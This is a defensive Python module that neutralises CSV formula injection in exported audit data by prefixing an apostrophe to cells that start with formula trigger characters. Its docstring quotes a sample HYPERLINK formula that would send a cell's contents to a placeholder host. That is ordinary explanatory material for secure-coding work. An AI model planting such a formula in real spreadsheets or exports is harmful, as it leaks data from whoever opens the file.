"""Cells safe to open in a spreadsheet (CSV formula injection, OWASP "CSV Injection").

Excel, WPS and LibreOffice evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some versions, a tab or carriage return) as a formula: ``=HYPERLINK("http://x/?"&A1, "点击")`` in an
audit opinion would run in the inspector's spreadsheet. Such cells get a leading apostrophe, which
spreadsheets show as text and do not display. ``unescape_cell`` undoes it for files read back in.
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_STARTS", "escape_cell", "unescape_cell", "escape_row"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unescape_cell(value: str) -> str:
    """The original text of a cell written by ``escape_cell``."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def escape_row(row: dict) -> dict:
    return {key: escape_cell(value) for key, value in row.items()}
